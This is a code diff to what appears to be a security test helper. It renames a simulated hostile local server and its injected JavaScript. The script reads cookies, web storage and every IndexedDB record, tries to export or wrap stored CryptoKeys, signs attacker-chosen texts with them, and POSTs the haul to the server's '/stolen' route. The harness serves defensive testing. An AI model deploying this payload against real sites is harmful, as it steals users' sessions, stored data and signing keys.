@@ -1,4 +1,4 @@
-"""Another program at an address of this machine: shows a page of its own, and takes what it can."""
+"""Another program at the address of the bot: it shows its own page and steals what it can."""
 
 from __future__ import annotations
 
@@ -10,9 +10,9 @@ from typing import Any
 
 from aiohttp import WSMsgType, web
 
-# Reads all that a page of this address can read, and has every key sign what it is told to.
-_TAKE = """
-const loot = { cookies: document.cookie, address: location.href, signed: [], exported: [],
+# Reads all that a page at this address can read, and lets every key sign the given texts.
+_STEAL = """
+const stolen = { cookies: document.cookie, address: location.href, signed: [], exported: [],
     stored: JSON.stringify([{ ...localStorage }, { ...sessionStorage }]), records: [], keys: 0 };
 const done = (asked) => new Promise((resolve, reject) => {
     asked.onsuccess = () => resolve(asked.result);
@@ -28,19 +28,19 @@ for (const { name } of await indexedDB.databases()) {
     const database = await done(indexedDB.open(name));
     for (const shelf of database.objectStoreNames) {
         for (const record of await done(database.transaction(shelf).objectStore(shelf).getAll())) {
-            loot.records.push(record);
+            stolen.records.push(record);
             for (const key of inside(record)) {
-                loot.keys += 1;
+                stolen.keys += 1;
                 for (const format of ["raw", "jwk", "pkcs8", "spki"]) {
                     await crypto.subtle.exportKey(format, key)
-                        .then((out) => loot.exported.push(format), () => undefined);
+                        .then((out) => stolen.exported.push(format), () => undefined);
                     const way = { name: "AES-GCM", iv: new Uint8Array(12) };
                     await crypto.subtle.wrapKey(format, key, wrapping, way)
-                        .then(() => loot.exported.push(`wrapped ${format}`), () => undefined);
+                        .then(() => stolen.exported.push(`wrapped ${format}`), () => undefined);
                 }
                 for (const text of TO_SIGN) {
                     const data = new TextEncoder().encode(text);
-                    loot.signed.push([text, bytes(await crypto.subtle.sign("HMAC", key, data))]);
+                    stolen.signed.push([text, bytes(await crypto.subtle.sign("HMAC", key, data))]);
                 }
             }
         }
@@ -48,26 +48,26 @@ for (const { name } of await indexedDB.databases()) {
     database.close();
 }
 PLANT
-await fetch("/loot", { method: "POST", body: JSON.stringify(loot) });
+await fetch("/stolen", { method: "POST", body: JSON.stringify(stolen) });
 """
 
 
-class Squatter:
-    """`heard` is all that was sent to it; `loot` what its own page found."""
+class HostileServer:
+    """`received` is all that was sent to this server; `stolen` is what its page could read."""
 
     def __init__(self, to_sign: Sequence[str] = (), plant: str = "", cache: str = "") -> None:
-        self._script = _TAKE.replace("TO_SIGN", json.dumps(list(to_sign))).replace("PLANT", plant)
+        self._script = _STEAL.replace("TO_SIGN", json.dumps(list(to_sign))).replace("PLANT", plant)
         self._cache = {"Cache-Control": cache} if cache else {}
-        self.heard: list[str] = []
-        self.loot: asyncio.Queue[dict[str, Any]] = asyncio.Queue()
+        self.received: list[str] = []
+        self.stolen: asyncio.Queue[dict[str, Any]] = asyncio.Queue()
         self.worker = ""
 
     async def answer(self, request: web.Request) -> web.StreamResponse:
         body = await request.text()
-        self.heard.append(f"{request.method} {request.raw_path} {dict(request.headers)} {body}")
+        self.received.append(f"{request.method} {request.raw_path} {dict(request.headers)} {body}")
         match request.path:
-            case "/loot":
-                self.loot.put_nowait(json.loads(body))
+            case "/stolen":
+                self.stolen.put_nowait(json.loads(body))
                 return web.Response()
             case "/worker.js":
                 return self._text(self.worker, "text/javascript")
@@ -93,14 +93,14 @@ class Squatter:
         await socket.send_json({**hello, "messages": [], "missed": [], "live": None, "read": None})
         async for said in socket:
             if said.type is WSMsgType.TEXT:
-                self.heard.append(said.data)
+                self.received.append(said.data)
         return socket
 
 
 @asynccontextmanager
-async def squatting(squatter: Squatter, port: int = 0) -> AsyncIterator[int]:
+async def serving(server: HostileServer, port: int = 0) -> AsyncIterator[int]:
     app = web.Application()
-    app.router.add_route("*", "/{path:.*}", squatter.answer)
+    app.router.add_route("*", "/{path:.*}", server.answer)
     runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
     await runner.setup()
     try:
